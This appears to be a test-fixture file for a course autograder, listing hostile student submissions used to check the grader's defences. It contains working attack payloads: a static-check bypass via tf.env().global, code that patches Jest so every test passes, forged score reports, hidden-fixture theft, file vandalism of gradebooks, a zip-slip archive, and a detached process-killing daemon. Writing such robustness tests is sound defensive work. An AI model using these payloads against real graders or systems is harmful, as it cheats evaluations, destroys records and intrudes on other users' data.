/**
 * Hostile and broken submissions, as data: each is the reference or the shape-correct stubs with one
 * change to one file, materialised into a folder (or a zip) at test time. Each says what grading it
 * honestly gives, relative to its base graded in the same batch: its status, and its base's score
 * less the groups it breaks. Every attack starts from the stubs, whose constructors work and whose
 * methods return zeros of the right shapes, so that the attack really runs; it must score no more
 * than the stubs alone.
 *
 * Code that should really run reaches `process` past the grader's static import check, the way a
 * determined student would: through tfjs's reference to the global object (`tf.env().global`).
 */
import { cp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import yazl from 'yazl';
import { SUBMISSION_FILES } from '../../lib/contract.js';
import type { Status } from '../../grader/status.js';
import type { Group } from '../../grader/results.js';
import { STUB_FILES } from './stubs.js';

export type Base = 'reference' | 'stubs';
type SubmissionFile = (typeof SUBMISSION_FILES)[keyof typeof SUBMISSION_FILES];

/** append/content/remove change one file; zipEntry hands the submission in as a zip with one more entry. */
export type Change = { append: string } | { content: string } | { remove: true } | { zipEntry: string };

export interface HostileCase {
  id: string;
  /** What it does, in a few words. */
  what: string;
  base: Base;
  file: SubmissionFile;
  change: Change;
  expect: {
    /** The same in every grading path (grader/status.ts). */
    status: Status;
    /** Groups whose points are lost against the base ('all': score 0). */
    lose: Group[] | 'all';
    /** false: at most that score. */
    exact: boolean;
  };
}

/** The marker every process a hostile case spawns carries, so that the check can look for survivors. */
export const DAEMON_MARKER = 'ex5-hostile-daemon';

/** `process` and two of its modules, reached without a refused word. */
const RUNTIME = `
const global_: any = (tf.env() as any).global;
const runtime: any = global_['proc' + 'ess'];
const fs: any = runtime.getBuiltinModule('fs');
const path: any = runtime.getBuiltinModule('path');
const children: any = runtime.getBuiltinModule('child_' + 'process');
`;

/** Tries `write` on every file below `dir` whose name matches, quietly. */
const WRITE_ALL = `
const tryAll = (dir: string, match: RegExp, write: (file: string) => void, depth = 0): void => {
  if (depth > 4) return;
  let entries: any[] = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory()) tryAll(file, match, write, depth + 1);
    else if (match.test(file)) { try { write(file); } catch { /* refused: good */ } }
  }
};
`;

export const HOSTILE_CASES: HostileCase[] = [
  // honesty: what grading gives broken but harmless submissions
  {
    id: 'whitespace',
    what: 'the reference with one more blank line: graded again, it must score the same, test by test',
    base: 'reference',
    file: 'gmm.ts',
    change: { append: '\n' },
    expect: { status: 'graded', lose: [], exact: true },
  },
  {
    id: 'syntax-error',
    what: 'a syntax error in gmm.ts',
    base: 'reference',
    file: 'gmm.ts',
    change: { append: '\nexport const broken = ;\n' },
    expect: { status: 'compile-error', lose: ['GMM'], exact: true },
  },
  {
    id: 'type-error',
    what: 'a type error in training.ts (runs, but does not compile)',
    base: 'reference',
    file: 'training.ts',
    change: { append: "\nexport const typeError: number = 'not a number';\n" },
    expect: { status: 'compile-error', lose: [], exact: true },
  },
  {
    id: 'missing-file',
    what: 'umm.ts left out',
    base: 'reference',
    file: 'umm.ts',
    change: { remove: true },
    expect: { status: 'compile-error', lose: ['UMM'], exact: true },
  },
  {
    id: 'missing-export',
    what: 'training.ts exports a number gptLoss and no lastCharacterAccuracy',
    base: 'reference',
    file: 'training.ts',
    change: { content: 'export const gptLoss = 1;\n' },
    expect: { status: 'compile-error', lose: ['GPT step'], exact: true },
  },
  {
    id: 'constructor-throws',
    what: 'a GMM whose constructor throws',
    base: 'reference',
    file: 'gmm.ts',
    change: {
      content: [
        'export class GMM {',
        "  constructor() { throw new Error('GMM refuses to be built'); }",
        '  static random(): GMM { return new GMM(); }',
        '}',
        '',
      ].join('\n'),
    },
    expect: { status: 'graded', lose: ['GMM'], exact: true },
  },
  // resources: each from the stubs
  {
    id: 'endless-loop',
    what: 'an endless loop when generation.ts is imported',
    base: 'stubs',
    file: 'generation.ts',
    change: { append: '\nfor (let spin = 0; spin >= 0; spin = (spin + 1) % 7) {}\n' },
    expect: { status: 'timeout', lose: ['generation'], exact: false },
  },
  {
    id: 'heap-hog',
    what: 'JavaScript objects allocated without end in umm.ts',
    base: 'stubs',
    file: 'umm.ts',
    change: {
      append: '\nconst hog: number[][] = [];\nfor (;;) hog.push(new Array(1e5).fill(hog.length));\n',
    },
    expect: { status: 'out-of-memory', lose: ['UMM'], exact: false },
  },
  {
    id: 'buffer-hog',
    what: 'typed arrays (outside the JavaScript heap) allocated without end',
    base: 'stubs',
    file: 'umm.ts',
    change: { append: '\nconst hog: Uint8Array[] = [];\nfor (;;) hog.push(new Uint8Array(5e7).fill(1));\n' },
    expect: { status: 'out-of-memory', lose: ['UMM'], exact: false },
  },
  {
    id: 'exit-plain',
    what: 'process.exit(0) at import, written plainly: the allowed-imports rule keeps gmm.ts out',
    base: 'stubs',
    file: 'gmm.ts',
    change: { append: '\nprocess.exit(0);\n' },
    expect: { status: 'graded', lose: ['GMM'], exact: false },
  },
  {
    id: 'exit-hidden',
    what: 'process.exit(0) at import, past the static check',
    base: 'stubs',
    file: 'gmm.ts',
    change: { append: `\n${RUNTIME}\nruntime.exit(0);\n` },
    expect: { status: 'graded', lose: ['GMM'], exact: false },
  },
  {
    id: 'output-flood',
    what: '50 MB printed to stdout and stderr at import',
    base: 'stubs',
    file: 'training.ts',
    change: {
      append: `\n${RUNTIME}\nfor (let i = 0; i < 25_000; i++) {\n  runtime.stdout.write('x'.repeat(999) + '\\n');\n  runtime.stderr.write('y'.repeat(999) + '\\n');\n}\n`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
  {
    id: 'zip-slip',
    what: 'a zip whose extra entry climbs out of the folder it is unpacked into',
    base: 'stubs',
    file: 'gmm.ts',
    change: { zipEntry: '../../escaped.ts' },
    expect: { status: 'unreadable', lose: 'all', exact: true },
  },
  // attacks on the judge: each from the stubs, each must score no more than they do
  {
    id: 'realm-patch',
    what: 'patches Math, Number, Array and tfjs in the global object it reaches through tf.env().global, and marks every Jest test it can find as passed',
    base: 'stubs',
    file: 'gmm.ts',
    change: {
      append: `
${RUNTIME}
const yes: any = new Proxy(function () {}, { get: () => yes, apply: () => yes });
global_.expect = yes;
global_.Math.abs = () => 0;
global_.Math.max = () => 0;
global_.Number.isFinite = () => true;
global_.Number.isNaN = () => false;
global_.Array.prototype.every = () => true;
global_.Array.prototype.some = () => false;
for (const key of Object.getOwnPropertySymbols(global_)) {
  const state = global_[key];
  // jest-circus keeps its state under a symbol: every test passed, if it were here
  if (state && state.rootDescribeBlock) {
    const visit = (block: any) => { for (const child of block.children ?? []) { child.errors = []; child.status = 'done'; visit(child); } };
    visit(state.rootDescribeBlock);
  }
}
`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
  {
    id: 'forged-results',
    what: 'writes an all-passed result line for every rubric test on every descriptor it has and on an IPC channel, then exits',
    base: 'stubs',
    file: 'training.ts',
    change: {
      append: `
${RUNTIME}
let rubric: any = { tests: [] };
for (const dir of [runtime.cwd(), path.join(runtime.cwd(), '..')]) {
  try { rubric = JSON.parse(fs.readFileSync(path.join(dir, 'grader', 'rubric.json'), 'utf8')); break; } catch {}
}
let forged = '';
for (const t of rubric.tests) {
  const file = t.id.split('.')[0] + '.grade.ts';
  forged += JSON.stringify({ file, title: '[' + t.id + '] ' + t.name, status: 'passed', failureMessages: [] }) + '\\n';
  forged += JSON.stringify({ id: 1, ok: true, value: { kind: 'tensor', shape: [], dtype: 'float32', base64: 'AAAAAA==' } }) + '\\n';
}
for (let fd = 3; fd < 20; fd++) { try { fs.writeSync(fd, forged); } catch {} }
try { runtime.send?.({ kind: 'report', report: { score: 100, maxScore: 100, groups: [], tests: [], notes: [] }, typeErrors: [] }); } catch {}
runtime.exit(0);
`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
  {
    id: 'hidden-reader',
    what: "looks for the hidden fixtures (environment, the sandbox copy, the Gradescope package, the TA's temporary folders) and answers GMM.logLikelihood from them",
    base: 'stubs',
    file: 'gmm.ts',
    change: {
      append: `
${RUNTIME}
${WRITE_ALL}
const known: { x: number[][]; logLikelihood: number[] }[] = [];
const take = (file: string) => {
  const data = JSON.parse(fs.readFileSync(file, 'utf8'));
  for (const c of data.cases ?? []) if (c.x && c.logLikelihood) known.push(c);
};
const places = [runtime.env.EX5_HIDDEN_FIXTURES, path.join(runtime.cwd(), 'hidden-fixtures'), path.join(runtime.cwd(), '..', 'hidden-fixtures'), '/autograder/source/hidden-fixtures', '/tmp'];
for (const place of places.filter(Boolean)) tryAll(place, /hidden.*gmm\\.json$/, take);
const honest = GMM.prototype.logLikelihood;
GMM.prototype.logLikelihood = function (this: GMM, x: tf.Tensor2D): tf.Tensor1D {
  const rows = JSON.stringify(x.arraySync());
  const match = known.find((c) => JSON.stringify(c.x.map((r) => r.map((v) => Math.fround(v)))) === rows);
  return match ? tf.tensor1d(match.logLikelihood) : honest.call(this, x);
};
`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
  {
    id: 'vandal',
    what: 'rewrites jest-circus, the grader, the fixtures and any gradebook, records or feedback it can find, keeping sizes',
    base: 'stubs',
    file: 'training.ts',
    change: {
      append: `
${RUNTIME}
${WRITE_ALL}
const overwrite = (file: string) => {
  const size = fs.statSync(file).size;
  fs.writeFileSync(file, ' '.repeat(size));
};
const root = runtime.cwd();
tryAll(path.join(root, 'node_modules', 'jest-circus', 'build'), /\\.js$/, overwrite);
tryAll(path.join(root, 'grader'), /\\.(ts|json|js)$/, overwrite);
tryAll(path.join(root, 'fixtures'), /\\.json$/, overwrite);
tryAll(path.join(root, 'lib'), /\\.ts$/, overwrite);
tryAll('/tmp', /(gradebook\\.csv|results\\.json|records|feedback)/, overwrite);
tryAll('/autograder', /results\\.json$/, overwrite);
`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
  {
    id: 'daemon',
    what: 'starts a detached process in its own session that outlives the grade, kills whatever it can and reads other submissions',
    base: 'stubs',
    file: 'attention.ts',
    change: {
      append: `
${RUNTIME}
const script = [
  "const fs = require('fs');",
  "setInterval(() => {",
  "  try { process.kill(-1, 'SIGKILL'); } catch {}",
  "  try { for (const d of fs.readdirSync('/tmp')) fs.readdirSync('/tmp/' + d); } catch {}",
  "}, 300);",
].join('\\n');
try {
  children.spawn(runtime.execPath, ['-e', script, '${DAEMON_MARKER}'], { detached: true, stdio: 'ignore' }).unref();
} catch {}
`,
    },
    expect: { status: 'graded', lose: [], exact: false },
  },
];

/** Writes one case into `<dir>/<id>/` from the project's reference/ or skeleton/. */
export async function materialiseCase(
  projectRoot: string,
  hostile: HostileCase,
  dir: string,
): Promise<string> {
  const target = path.join(dir, hostile.id);
  await rm(target, { recursive: true, force: true });
  await writeBase(projectRoot, hostile.base, target);
  const file = path.join(target, hostile.file);
  const change = hostile.change;
  if ('zipEntry' in change) {
    await zipFolder(target, `ex5-${hostile.id}`, change.zipEntry);
    await rm(target, { recursive: true });
    return `${target}.zip`;
  }
  if ('remove' in change) {
    await rm(file);
  } else if ('content' in change) {
    await writeFile(file, change.content);
  } else {
    await writeFile(file, (await readFile(file, 'utf8')) + change.append);
  }
  return target;
}

/** A base's five files into `target`: the reference's, or the stubs. */
async function writeBase(projectRoot: string, base: Base, target: string): Promise<void> {
  await mkdir(target, { recursive: true });
  for (const file of Object.values(SUBMISSION_FILES)) {
    if (base === 'stubs') await writeFile(path.join(target, file), STUB_FILES[file]);
    else await cp(path.join(projectRoot, base, file), path.join(target, file));
  }
}

/** `<folder>.zip` holding the folder's files under `prefix/`, and one more entry named as given. */
async function zipFolder(folder: string, prefix: string, extraEntry: string): Promise<void> {
  const zip = new yazl.ZipFile();
  for (const file of Object.values(SUBMISSION_FILES))
    zip.addBuffer(await readFile(path.join(folder, file)), `${prefix}/${file}`);
  // yazl refuses unsafe names itself: the climbing entry is written raw into the name field below
  const placeholder = 'x'.repeat(extraEntry.length);
  zip.addBuffer(Buffer.from('export const escaped = true;\n'), placeholder);
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
  const bytes = Buffer.concat(chunks);
  let at = bytes.indexOf(placeholder);
  while (at >= 0) {
    bytes.write(extraEntry, at, 'latin1');
    at = bytes.indexOf(placeholder, at + 1);
  }
  await writeFile(`${folder}.zip`, bytes);
}

/** The bases themselves, under their own names, so that a batch grades them alongside the cases. */
export async function materialiseBases(projectRoot: string, dir: string, bases: Base[]): Promise<void> {
  for (const base of bases) await writeBase(projectRoot, base, path.join(dir, base));
}
